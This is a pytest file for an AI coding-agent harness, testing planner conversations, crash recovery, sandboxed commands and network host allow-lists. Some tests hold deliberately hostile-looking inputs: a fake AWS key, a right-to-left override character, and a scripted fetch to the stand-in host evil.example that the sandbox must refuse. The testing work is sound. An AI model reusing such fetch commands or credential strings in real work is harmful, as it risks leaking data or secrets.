"""The planner with a model from a script: what it takes from it, what it does not, and how conversations end."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import anyio
import pytest

from agents.llm.port import BadReply, BudgetReached, ModelRefused, ModelUnavailable
from agents.planning.conversation import Ended
from agents.port import AttemptError
from schemas.model_calls import Message, ToolCall
from schemas.values import FailureClass
from tests.llm.scripted import ScriptedModel, says
from tests.planner.rig import Bench, call, replies, told
from tests.skills.code_project import FIXED, FIXED_TESTS, LOADER, fix, make_project, patch_of
from tests.workspace.bwrap import needs_bubblewrap
from tests.workspace.test_children import processes
from tests.workspace.test_reaching import serving

SUBMIT = call("submit", summary="read all lines")
FIX = call("write_file", path="shop/loader.py", text=FIXED)
TEST = call("write_file", path="tests/test_loader.py", text=FIXED_TESTS)
LOOK = call("read_file", path="shop/loader.py")


@pytest.fixture
def bench(tmp_path: Path) -> Bench:
    needs_bubblewrap()
    return Bench.on(make_project(tmp_path / "shop"), tmp_path)


async def test_a_model_builds_a_change_and_the_harness_measures_it(bench: Bench) -> None:
    built = await bench.build(
        call("list_files"),
        call("search", pattern="split"),
        LOOK,
        call("replace_text", path="shop/loader.py", old='text.split("\\n")[:-1]', new="text.splitlines()"),
        TEST,
        call("run_command", command="python -m pytest -q -p no:cacheprovider"),
        call("show_changes"),
        SUBMIT,
    )
    built.script.assert_used_up()
    assert bench.ran == ["devsecops.change"]
    assert [run.skill for run in built.runs] == ["devsecops.change", "planner.build"]
    assert "+    lines = text.splitlines()" in built.read("change.patch")
    figures = {f"{m.scope}.{m.name}": m.value for m in built.runs[0].measurements}
    assert (figures["tests.failed"], figures["tests.new"]) == (0.0, 1.0)
    assert [step["outcome"] for step in built.steps] == [*["done"] * 7, "submitted"]
    assert len(bench.used) == 2, "the search and the command are counted"
    assert all(usage.wall_seconds > 0 and not usage.tokens for usage in bench.used)
    assert any("run_command: done" in line for line in bench.told)
    first = built.script.asked[0]
    assert {tool.name for tool in first.tools} >= {"read_file", "write_file", "run_command", "submit"}
    assert 'source="ticket 7"' in first.messages[1].content
    assert "test_the_last_row_is_there_without_a_newline" not in str(first.messages), "hidden tests stay hidden"


async def test_a_change_that_fails_its_tests_is_not_taken_and_the_model_goes_on(bench: Bench) -> None:
    worse = call("write_file", path="shop/loader.py", text=LOADER.replace('split(",")', 'split(";")'))
    built = await bench.build(SUBMIT, worse, SUBMIT, FIX, SUBMIT)
    assert "nothing is changed" in told(built.script, 1)
    assert "1 tests fail: tests.test_loader::test_rows" in told(built.script, 3)
    assert bench.ran == ["devsecops.change"] * 2
    assert [run.skill for run in built.runs] == ["devsecops.change", "planner.build"], "only what counts is reported"


async def test_a_change_the_skill_refuses_is_told_and_recorded(bench: Bench) -> None:
    secret = "AWS = '" + "AKIA" + "IOSFODNN7EXAMPLX'\n"
    built = await bench.build(
        call("write_file", path="shop/keys.py", text=secret), SUBMIT,
        call("run_command", command="rm shop/keys.py"), FIX, SUBMIT,
    )  # fmt: skip
    assert "looks like a credential" in told(built.script, 2)
    assert "looks like a credential" in built.warnings
    assert "AKIA" + "IOS" not in built.warnings


@pytest.mark.parametrize(
    ("script", "exit_", "failure", "word"),
    [
        ([LOOK] * 3, "stuck", FailureClass.AGENT, "same observation"),
        ([LOOK, call("list_files")] * 3, "stuck", FailureClass.AGENT, "took turns"),
        ([call("read_file", path=f"no{n}") for n in range(5)], "stuck", FailureClass.AGENT, "5 calls in a row failed"),
        ([says("I think"), says("so"), says("I am")], "stuck", FailureClass.AGENT, "called no tool"),
        ([call("fly"), call("read_file"), BadReply("no JSON")], "format_error", FailureClass.AGENT, "no JSON"),
        ([ToolCall(id="1", name="read_file", arguments="{")] * 3, "format_error", FailureClass.AGENT, "cannot be read"),
        ([says("No").model_copy(update={"finish": "refused"})], "refused", FailureClass.POLICY, "declined"),
        ([ModelRefused("no price for this model")], "refused", FailureClass.POLICY, "no price"),
        ([LOOK, BudgetReached("nothing left")], "limit_reached", FailureClass.LIMIT, "nothing left"),
        ([LOOK, call("list_files"), LOOK], "limit_reached", FailureClass.LIMIT, "after 3 replies"),
    ],
)  # fmt: skip
async def test_every_end_has_a_name_and_a_failure_class(
    bench: Bench, script: list[object], exit_: str, failure: FailureClass, word: str
) -> None:
    most = 3 if exit_ == "limit_reached" else 20
    with pytest.raises(Ended, match=word) as ended:
        await bench.build(*script, replies=most)  # type: ignore[arg-type]
    assert (ended.value.exit_, ended.value.failure) == (exit_, failure)
    assert ended.value.reason.startswith(f"{exit_}: ")
    assert json.loads(ended.value.detail)["exit"] == exit_
    assert bench.ran == []


async def test_an_endpoint_that_is_away_is_tried_again(bench: Bench) -> None:
    with pytest.raises(AttemptError, match="away") as gone:
        await bench.build(LOOK, ModelUnavailable("the endpoint is away"))
    assert gone.value.failure is FailureClass.TRANSIENT


@pytest.mark.parametrize("bad", [False, True])
async def test_an_attempt_that_was_killed_goes_on_where_it_was(bench: Bench, bad: bool) -> None:
    """The process dies while the model is asked once more. Whoever takes over asks the same to the byte (so that the
    record answers), and runs nothing again."""
    clock = call("run_command", command="date +%s%N; cat /proc/sys/kernel/random/uuid")
    begun = [clock, *([BadReply("no JSON")] if bad else []), FIX]
    with pytest.raises(AssertionError, match="asked for one more") as died:
        await bench.build(*begun)
    first = died.traceback[-1].frame.f_locals["self"].asked
    built = await bench.build(clock, FIX, TEST, SUBMIT, lease=2)
    built.script.assert_used_up()
    known = [each for at, each in enumerate(first) if not (bad and at == 1)]
    assert [each.messages for each in built.script.asked[:2]] == [each.messages for each in known]
    assert "+    lines = text.splitlines()" in built.read("change.patch"), "what was written is still there"
    assert [step["tool"] for step in built.steps] == ["run_command", "write_file", "write_file", "submit"]
    assert len(bench.used) == 1, "the command ran once"
    assert not (bench.place / "attempts" / "build-1-1" / "planner").exists(), "moved, not shared"


async def test_what_ended_for_a_reason_is_not_gone_on_with(bench: Bench) -> None:
    with pytest.raises(Ended):
        await bench.build(FIX, *[LOOK] * 3)
    with pytest.raises(Ended, match="nothing left"):
        await bench.build(SUBMIT, BudgetReached("nothing left"), lease=2)
    with pytest.raises(AttemptError, match="away"):
        await bench.build(FIX, ModelUnavailable("the endpoint is away"), lease=3)
    built = await bench.build(FIX, SUBMIT, lease=4)
    assert built.steps[0]["outcome"] == "done"
    left = {each.parent.name for each in (bench.place / "attempts").glob("*/planner-ended")}
    assert left == {"build-1-1", "build-1-2"}


async def test_a_journal_of_another_task_is_not_believed(bench: Bench) -> None:
    with pytest.raises(AssertionError):
        await bench.build(call("run_command", command="true"))
    bench.ticket = bench.ticket.model_copy(update={"body": "Something else."})
    await bench.build(call("run_command", command="true"), FIX, SUBMIT, lease=2)
    assert len(bench.used) == 2


async def test_what_is_not_left_to_a_planner_goes_on_by_rule(bench: Bench) -> None:
    nobody = ScriptedModel([])
    (scoped,) = await bench.work(nobody, bench.attempt("scope"))
    assert "change-brief.json" in {ref.name for ref in scoped.artifacts}
    brief = scoped.artifacts
    await bench.work(nobody, bench.attempt("design", brief, planned=False))
    bench.ticket = bench.ticket.model_copy(update={"change": "patches/7.patch"})
    (bench.place / "backlog" / "patches" / "7.patch").write_text(patch_of(bench.repo, fix))
    await bench.work(nobody, bench.attempt("scope"))
    assert bench.ran == ["lead.change_scope", "lead.change_design", "lead.change_scope"]


async def test_a_model_writes_the_design_note_and_may_only_read(bench: Bench) -> None:
    note = "Replace the slice by splitlines, since a file may end without a newline. " * 2
    script = ScriptedModel(replies(FIX, LOOK, call("submit", design=note)))
    runs = await bench.work(script, bench.attempt("design", bench.brief()))
    assert "there is no tool write_file" in told(script, 1)
    made = {ref.name: bench.blobs.read(ref.sha256).decode() for run in runs for ref in run.artifacts}
    assert note.strip() in made["design-note.md"]
    assert "decides nothing" in made["design-note.md"]
    assert {"change-design.md", "test-plan.md", "plan-design.json"} <= set(made)


async def test_a_models_review_is_a_warning_and_no_decision(bench: Bench) -> None:
    built = await bench.build(FIX, TEST, SUBMIT)
    artifacts = bench.brief() + tuple(ref for run in built.runs for ref in run.artifacts)
    remark = {"level": "serious", "where": "shop/loader.py:6", "what": "splits at form feeds\u202e, too"}
    script = ScriptedModel(replies(call("report", remarks=[remark])))
    runs = await bench.work(script, bench.attempt("evaluate", artifacts))
    assert [run.skill for run in runs] == ["evaluation.review", "planner.review"]
    assert runs[1].warnings == ("a model remarks (serious): shop/loader.py:6 splits at form feeds, too",)
    assert runs[1].measurements == ()
    assert "+    lines = text.splitlines()" in script.asked[0].messages[1].content
    shutil.rmtree(bench.place / "attempts")
    runs = await bench.work(ScriptedModel([ModelUnavailable("away")]), bench.attempt("evaluate", artifacts))
    assert runs[0].measurements, "the harness's own review stands without it"
    assert runs[1].warnings == ("no review by a model: away",)


async def test_large_observations_are_kept_whole_and_shown_in_part(bench: Bench) -> None:
    built = await bench.build(call("run_command", command="seq 1 20000"), FIX, SUBMIT)
    shown = told(built.script, 1)
    assert "\n20000\n" in shown
    assert "characters left out" in shown
    assert len(shown) < 10_000
    raw = built.steps[0]["raw"]
    assert bench.blobs.read(raw).decode().count("\n") > 20_000


async def test_too_many_calls_in_one_reply_are_answered_all_the_same(bench: Bench) -> None:
    many = says("", *(call("read_file", path="shop/loader.py", first_line=n) for n in range(1, 8)), *[LOOK] * 3)
    built = await bench.build(many, FIX, SUBMIT)
    answers = [m for m in built.script.asked[1].messages if m.role == "tool"]
    assert len(answers) == 10
    assert "at most 8 calls" in answers[-1].content
    assert isinstance(answers[0], Message)


async def test_a_command_ends_with_its_attempt(bench: Bench) -> None:
    """An attempt that is cancelled (the agent stops, its time is over) leaves no command behind."""
    ended = False
    async with anyio.create_task_group() as tasks:

        async def work() -> None:
            nonlocal ended
            try:
                await bench.build(call("run_command", command="sleep 86433", seconds=600))
            finally:
                ended = True

        tasks.start_soon(work)
        while not processes("86433"):  # until it has begun
            assert not ended
            await anyio.sleep(0.02)
        tasks.cancel_scope.cancel()
    assert ended
    assert processes("86433") == []


async def test_an_attempt_whose_time_is_over_says_so(bench: Bench) -> None:
    attempt = bench.attempt("build", bench.brief(), timeout_seconds=0.001)
    with pytest.raises(Ended, match="the time of the attempt") as ended:
        await bench.work(ScriptedModel([]), attempt)
    assert ended.value.failure is FailureClass.LIMIT


OPEN = (
    "import os, sys, urllib.request\n"
    "[os.environ.pop(name) for name in ('NO_PROXY', 'no_proxy')]\n"  # the server of the test is on loopback
    "for url in sys.argv[1:]:\n"
    "    try: print(urllib.request.urlopen(url, timeout=20).read().decode())\n"
    "    except OSError as problem: print(problem)\n"
)


async def test_a_command_reaches_listed_hosts_only_and_each_try_is_recorded(bench: Bench) -> None:
    with serving() as server:
        fetch = f"python - http://{server.place}/a http://evil.example/{'x' * 20} <<'END'\n{OPEN}END"
        calls = (FIX, call("run_command", command=fetch), call("run_command", command="sleep 600", seconds=1), SUBMIT)
        built = await bench.build(*calls, hosts=(server.place, "pypi.example:443"))
        assert server.seen == ["GET /a HTTP/1.1"]
        step = built.steps[1]
        assert step["outcome"] == "done"
        assert [line.split(" (")[0] for line in step["reached"]] == [f"{server.place} reached"]
        assert step["barred"] == ["evil.example:80 refused: the policy's `sandbox_hosts` do not list it"]
        assert "reached" not in built.steps[2]
        assert f"asked for hosts they may not reach (build): {step['barred'][0]}" in built.warnings
        assert f"used the network (build): {server.place} reached" in built.warnings
        (tool,) = [each for each in built.script.asked[0].tools if each.name == "run_command"]
        assert f"{server.place}, pypi.example:443 only" in tool.description
        answer = next(m.content for m in built.script.asked[2].messages if m.role == "tool" and "/a for" in m.content)
        assert "network: evil.example:80 refused" in answer


async def test_what_a_failed_attempt_reached_is_in_its_event_and_outlives_the_agent(bench: Bench) -> None:
    with serving() as server:
        fetch = f"python - http://{server.place}/a http://evil.example/ <<'END'\n{OPEN}END"
        first = (call("run_command", command=fetch), ModelUnavailable("away"))
        with pytest.raises(AttemptError) as caught:
            await bench.build(*first, hosts=(server.place,))
        detail = json.loads(caught.value.detail)
        assert detail["barred"] == ["evil.example:80 refused: the policy's `sandbox_hosts` do not list it"]
        assert detail["reached"][0].startswith(f"{server.place} reached (")
        built = await bench.build(first[0], FIX, SUBMIT, lease=2, hosts=(server.place,))
        assert server.seen == ["GET /a HTTP/1.1"], "the command is not run again"
        assert "evil.example:80 refused" in built.warnings


async def test_commands_run_uncontained_only_where_that_is_named_and_then_it_is_told(bench: Bench) -> None:
    with pytest.raises(AttemptError, match="there is no sandbox 'nothing'"):
        await bench.build(FIX, SUBMIT, sandbox="nothing")
    built = await bench.build(FIX, call("run_command", command="echo ran"), SUBMIT, lease=2, sandbox="local-unsafe")
    assert "commands ran without a sandbox (`sandbox: local-unsafe`)" in built.warnings
    contained = await bench.build(FIX, SUBMIT, lease=3)
    assert "without a sandbox" not in contained.warnings
